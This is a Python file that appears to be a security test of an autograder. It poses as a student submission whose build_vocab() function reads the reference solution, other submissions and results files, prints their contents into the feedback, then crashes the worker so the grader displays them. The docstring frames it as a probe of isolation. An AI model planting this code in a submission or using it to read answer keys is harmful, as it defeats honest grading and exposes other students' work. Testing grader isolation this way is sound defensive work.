"""Attack: read what a submission must never see and print it into the feedback, where a student would look.

On Gradescope a student sees the output of the tests, and a crashing call's output ends with the last
lines its code printed. ``build_vocab()`` tries each path of ``attack.json``'s ``"paths"`` (the
reference, another submission, results) and prints one line per path, ``exfiltrate <path>: read
<first bytes>`` or ``exfiltrate <path>: denied <error>``, then ends the worker so that the grader shows
those lines. A ``denied`` line for every path proves both that the attack ran and that it read nothing.
"""

import json
import os
from pathlib import Path

CONFIG = json.loads((Path(__file__).with_name("attack.json")).read_text())


def _peek(path: str) -> str:
    try:
        if os.path.isdir(path):
            return "read " + ",".join(sorted(os.listdir(path)))[:60]
        with open(path, "rb") as f:
            return "read " + repr(f.read(60))
    except OSError as e:
        return f"denied {type(e).__name__}"


def build_vocab(tokens, min_count=1, specials=()):
    for path in CONFIG["paths"]:
        print(f"exfiltrate {path}: {_peek(path)}", flush=True)
    os._exit(1)


def encode(tokens, vocab, unk_token=None):
    raise NotImplementedError()


def one_hot(indices, vocab_size):
    raise NotImplementedError()
